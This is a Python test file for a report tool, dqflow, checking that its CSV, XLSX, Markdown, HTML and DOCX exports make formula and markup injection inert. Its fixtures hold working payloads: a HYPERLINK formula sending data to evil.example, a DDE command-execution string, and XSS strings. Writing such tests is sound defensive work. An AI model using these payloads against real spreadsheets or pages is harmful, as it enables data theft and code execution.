"""Exports carry no formulas and no markup (issue 20, item 5): names and recommendations typed by people
go into every CSV, XLSX and Markdown file dqflow writes as text, through one rule (`present.guard`).

A Tomsk campaign whose roster names its ДОУ and experts with hostile text, whose experts write the same
text as recommendations and whose coordinator gives it as a reason, is reported through the CLI in each
format; the bytes are read back and inspected.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from conftest import TOMSK, Cli, complete, levels
from dqflow.present import csvfile, guard
from dqflow.present.tables import markdown_table

HOSTILE = {  # ДОУ id → the name the roster gives it, and the recommendation its expert writes
    "2": '=HYPERLINK("http://evil.example/steal?d="&A1,"x")',
    "4": "@SUM(1+1)",
    "5": "+1",
    "6": "-1",
    "15": "\t=1",
    "35": '<a href="javascript:alert(1)">x</a>',
}
# A roster's cell and a review's text are trimmed when stored: "\t=1" arrives as "=1" (a tab inside a
# cell is tested on the writers themselves, below).
STORED = {inst: text.strip() for inst, text in HOSTILE.items()}
EXPERT_NAMES = {"e2": "=1+1", "e35": "<img src=x onerror=alert(1)>"}
REASON = "=cmd|' /C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NOW = "2021-12-06 12:00"  # after the first review's deadline: every format has reviews to show


def expert_name(expert: str) -> str:
    """The name the hostile roster gives an expert (the Tomsk file's own, unless EXPERT_NAMES replaces it)."""
    if expert in EXPERT_NAMES:
        return EXPERT_NAMES[expert]
    return re.search(rf"\{{id: {expert}, name: ([^,]+),", TOMSK.read_text(encoding="utf-8"))[1]


def hostile_campaign(folder: Path) -> Path:
    """The Tomsk file with the hostile names in its roster (YAML double quotes: a tab stays a tab)."""
    text = TOMSK.read_text(encoding="utf-8")
    for inst, name in HOSTILE.items():
        text, n = re.subn(rf'(\{{id: "{inst}", name: )[^,]+,', lambda m: m[1] + json.dumps(name) + ",", text)
        assert n == 1, inst
    for expert, name in EXPERT_NAMES.items():
        text, n = re.subn(rf"(\{{id: {expert}, name: )[^,]+,", lambda m: m[1] + json.dumps(name) + ",", text)
        assert n == 1, expert
    path = folder / "hostile.yaml"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def campaign(tmp_path_factory):
    """Loaded, handed in, extended with a hostile reason, the first list drawn, and one review per hostile ДОУ
    whose recommendations are that ДОУ's hostile name."""
    tmp = tmp_path_factory.mktemp("exports")
    dq = Cli(f"sqlite:///{tmp / 'exports.db'}")
    dq.ok("load", str(hostile_campaign(tmp)), "--now", "2021-11-10 09:00")
    for inst in HOSTILE:
        dq.ok("submit", inst, "--stage", "fill-form", "--link", f"https://dou{inst}.example.org/form", "--now", "2021-11-22 10:00")
    dq.ok("extend", "40", "--stage", "fill-form", "--until", "2021-12-03", "--reason", REASON, "--now", "2021-11-24 10:00")
    dq.ok("tick", "--now", "2021-11-25 12:00")  # list1 draws itself
    assigned = {a["institution"]: a["experts"] for a in dq.json("experts", "show", "list1")["assignments"]}
    for inst, text in HOSTILE.items():
        dq.ok("review", inst, "--stage", "review1", "--expert", assigned[inst][0], *levels("conditions=2"),
              "--recommendations", "-", "--now", "2021-12-02 10:00", input=text)
    return {"dq": dq, "tmp": tmp, "assigned": assigned}


def test_the_campaign_keeps_the_hostile_text_as_typed(campaign):
    """The premise: the roster's names and the reviews' recommendations are stored as typed (trimmed)."""
    dq = campaign["dq"]
    names = {i["id"]: i["name"] for i in dq.json("status", "--institutions", "--now", NOW)["institutions"]}
    assert {inst: names[inst] for inst in HOSTILE} == STORED
    for inst, text in STORED.items():
        card = dq.json("status", "--institution", inst, "--now", NOW)
        review1 = next(s for s in card["stages"] if s["id"] == "review1")
        assert [r["recommendations"] for r in review1["reviews"]["reviews"]] == [text]


# -- CSV --------------------------------------------------------------------------------------


def csv_cells(data: bytes) -> list[list[str]]:
    assert not data.startswith(b"\xef\xbb\xbf")  # UTF-8 without a byte-order mark, as before
    assert b"\n" not in data.replace(b"\r\n", b"")  # every row ends in CRLF (RFC 4180), none in a bare LF
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_report_csv_prefixes_every_cell_a_spreadsheet_would_run(campaign):
    out = campaign["tmp"] / "csv"
    campaign["dq"].ok("report", "--format", "csv", "--out", str(out), "--now", NOW)
    files = {p.name: csv_cells(p.read_bytes()) for p in sorted(out.iterdir())}
    assert set(files) == {"institutions.csv", "reviews.csv", "stages.csv"}
    for name, rows in files.items():
        for cell in (c for row in rows for c in row):
            assert not cell.lstrip(" ").startswith(FORMULA_START), (name, cell)
    institutions = {row[0]: row[1] for row in files["institutions.csv"][1:]}
    for inst, text in STORED.items():  # the text itself is kept, made inert by a leading '
        assert institutions[inst] == ("'" + text if guard.formula_like(text) else text)
    assert institutions["40"] == "МАДОУ № 40"  # ordinary cells as they were
    levels = [row for row in files["reviews.csv"][1:] if row[0] in HOSTILE]
    assert {row[0] for row in levels} == set(HOSTILE) and {row[3:] for row in map(tuple, levels)} == set(complete("conditions=2").items())


def test_experts_show_csv_prefixes_the_hostile_names(campaign):
    result = campaign["dq"]("experts", "show", "list1", "--csv")
    assert result.exit_code == 0, result.output
    rows = csv_cells(result.stdout_bytes)
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.lstrip(" ").startswith(FORMULA_START)]
    assert "'" + HOSTILE["2"] in cells and "'=1" in cells and "'+1" in cells and HOSTILE["35"] in cells
    assert "'=1+1" in cells and EXPERT_NAMES["e35"] in cells


@given(st.lists(st.lists(st.one_of(st.text(max_size=12), st.sampled_from([*HOSTILE.values(), " =1", "＝1", "\r\n=1"])),
                         min_size=2, max_size=2), max_size=4))
def test_the_one_csv_writer_reads_back_as_the_text_or_the_text_made_inert(rows):
    written = csvfile.text(["a", "b"], rows)
    back = list(csv.reader(io.StringIO(written, newline="")))
    assert back[0] == ["a", "b"] and len(back) == 1 + len(rows)
    for row, read in zip(rows, back[1:], strict=True):
        assert read == [("'" + c if guard.formula_like(c) else c) for c in row]
        assert not [c for c in read if guard.formula_like(c)]


def test_a_number_is_written_as_the_number_it_is():
    assert csvfile.text(["n"], [[-1], [2.5], ["-1"]]) == "n\r\n-1\r\n2.5\r\n'-1\r\n"


# -- XLSX -------------------------------------------------------------------------------------


def test_report_xlsx_types_every_text_cell_as_text(campaign):
    path = campaign["tmp"] / "s.xlsx"
    campaign["dq"].ok("report", "--format", "xlsx", "--out", str(path), "--now", NOW)
    with zipfile.ZipFile(path) as book:
        sheets = {n: book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/sheet")}
        assert sheets and not [n for n in book.namelist() if "calcChain" in n]
    for name, xml in sheets.items():
        assert "<f>" not in xml and "<f " not in xml, name  # the справка has no formula at all
        assert 't="str"' not in xml, name  # the type openpyxl gives a formula's cached text
    workbook = openpyxl.load_workbook(path)
    found: dict[str, list] = {text: [] for text in {*STORED.values(), *EXPERT_NAMES.values(), REASON}}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                for text in found:
                    if cell.value == text or (isinstance(cell.value, str) and text == REASON and text in cell.value):
                        found[text].append((sheet.title, cell))
    assert not [text for text, cells in found.items() if not cells], found  # every hostile text reads back as typed
    for text, cells in found.items():
        for title, cell in cells:
            assert cell.data_type == "s", (title, cell.coordinate)
            if cell.value == text and guard.formula_like(text):
                assert cell.quotePrefix, (title, cell.coordinate)  # Excel keeps it text when the cell is edited
    names = {title for title, _ in found[HOSTILE["2"]]}
    assert {"ДОУ", "Сдача материалов", "Экспертизы"} <= names  # the name on each sheet that lists ДОУ, the recommendation
    reviews = workbook["Экспертизы"]
    column = [c.value for c in reviews[1]].index("Рекомендации")
    assert set(STORED.values()) <= {row[column].value for row in reviews.iter_rows(min_row=2)}  # each expert's text


# -- Markdown and HTML ------------------------------------------------------------------------


ESCAPED_TAG = "&lt;a href=\"javascript:alert(1)\"&gt;x&lt;/a&gt;"


def assert_no_markup(md: str) -> None:
    assert "<a " not in md and "<img" not in md and "</a>" not in md
    assert "](javascript:" not in md and "<javascript:" not in md
    assert not re.search(r"<[a-zA-Z/!]", md), md[:2000]  # no raw HTML tag of any kind


def test_report_md_escapes_html_and_markdown_in_names_and_recommendations(campaign):
    md = campaign["dq"].ok("report", "--format", "md", "--now", NOW)
    assert_no_markup(md)
    assert f"### {ESCAPED_TAG} (ДОУ 35)" in md  # the heading reads as the name typed
    expert = expert_name(campaign["assigned"]["35"][0])
    assert f"- {ESCAPED_TAG} (Первичная экспертиза, {guard.markdown_text(expert)})" in md  # the recommendation too, by stage and expert name
    assert "### =HYPERLINK(\"http://evil.example/steal?d=\"&amp;A1,\"x\") (ДОУ 2)" in md
    assert "&lt;img src=x onerror=alert(1)&gt;" in md  # an expert's name in the experts' table


def test_status_md_escapes_the_names_and_the_card(campaign):
    dq = campaign["dq"]
    table = dq.ok("status", "--format", "md", "--institutions", "--now", NOW)
    card = dq.ok("status", "--format", "md", "--institution", "35", "--now", NOW)
    extended = dq.ok("status", "--format", "md", "--institution", "40", "--now", NOW)
    for md in (table, card, extended):
        assert_no_markup(md)
    assert f"| {ESCAPED_TAG} |" in table and f"**{ESCAPED_TAG}** (ДОУ 35)" in card
    assert f"рекомендации: {ESCAPED_TAG}" in card
    assert "причина: =cmd\\|' /C calc'!A0" in extended  # a pipe in a list item is escaped as well


def test_report_html_keeps_the_hostile_text_as_text(campaign):
    path = campaign["tmp"] / "s.html"
    campaign["dq"].ok("report", "--out", str(path), "--now", NOW)
    html = path.read_text(encoding="utf-8")
    assert 'href="javascript:' not in html and "<img src=x" not in html
    assert "&lt;a href=&#34;javascript:alert(1)&#34;&gt;x&lt;/a&gt;" in html


@given(st.text(max_size=40))
def test_markdown_text_has_no_tag_no_line_break_and_no_unescaped_markup(text):
    said = guard.markdown_text(text)
    assert "<" not in said and ">" not in said and len(said.splitlines()) <= 1
    assert not re.search(r"(?<!\\)(?:\\\\)*[`*_\[\]|~#]", said.replace("\\\\", "")), said
    lines = markdown_table(["a"], [[text]])
    assert len(lines) == 3 and "<" not in lines[2]


def test_report_docx_keeps_the_hostile_text_as_typed(campaign):
    """Word runs no formula and renders no markup: each name and recommendation reads back exactly as typed."""
    path = campaign["tmp"] / "s.docx"
    campaign["dq"].ok("report", "--format", "docx", "--out", str(path), "--now", NOW)
    doc = docx.Document(str(path))
    texts = [p.text for p in doc.paragraphs] + [c.text for t in doc.tables for row in t.rows for c in row.cells]
    for inst, text in STORED.items():
        assert any(t.endswith(f". {text}") for t in texts), inst  # the ДОУ's heading, as typed
        expert = expert_name(campaign["assigned"][inst][0])
        assert f"{text} (Первичная экспертиза, {expert})" in texts, inst  # its recommendation, by stage and expert name
    assert "=1+1" in texts and EXPERT_NAMES["e35"] in texts  # the experts' table
    assert any(REASON in t for t in texts)  # the extension's reason


# -- history: one set of rows for the terminal and the portal --------------------------------


def test_history_entries_say_what_the_terminal_says(campaign):
    """`dqflow history` prints each entry's when, stage, what, detail and who: the rows the portal's card shows."""
    from dqflow import engine, store
    from dqflow.present.history import history_entries

    dq = campaign["dq"]
    db = store.connect(dq.db_url)
    try:
        with store.dry_run(db) as session:
            campaign_spec = engine.definition(session, None)
            rows = engine.history(session, campaign_spec.id, "35")
    finally:
        db.dispose()
    entries = history_entries(rows, campaign_spec.tz, campaign_spec)
    printed = dq.ok("history", "35").splitlines()[1:]
    assert len(entries) == len(printed) == len(rows)
    review = next(e for e in entries if e.what.startswith("экспертиза записана"))
    expert = campaign_spec.expert_names[campaign["assigned"]["35"][0]]  # people read the expert's name
    assert review.detail.startswith(f"эксперт {expert};") and "Образовательные условия — 2" in review.detail
    assert review.by == f"эксперт {expert} (портал)" or review.by.startswith("координатор")
    for entry, line in zip(entries, printed, strict=True):
        assert f"{entry.stage or '—'}: {entry.what}" in line and entry.detail in line and entry.by in line
